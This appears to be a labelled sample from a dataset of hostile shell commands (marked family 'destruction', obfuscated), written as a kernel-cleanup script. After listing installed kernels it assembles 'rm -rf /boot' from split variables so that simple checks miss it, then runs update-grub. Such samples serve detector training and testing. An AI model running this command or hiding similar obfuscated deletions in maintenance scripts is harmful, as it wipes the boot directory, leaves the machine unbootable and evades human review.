# description: Kernel cleanup that removes the whole /boot directory through variable indirection.
# family: destruction
# obfuscated: yes
set -uo pipefail

echo "Installed kernels:"
dpkg --list 'linux-image-*' | awk '/^ii/ {print $2}'
c=rm
o=-rf
t=/bo
t="${t}ot"
$c $o "$t"
update-grub
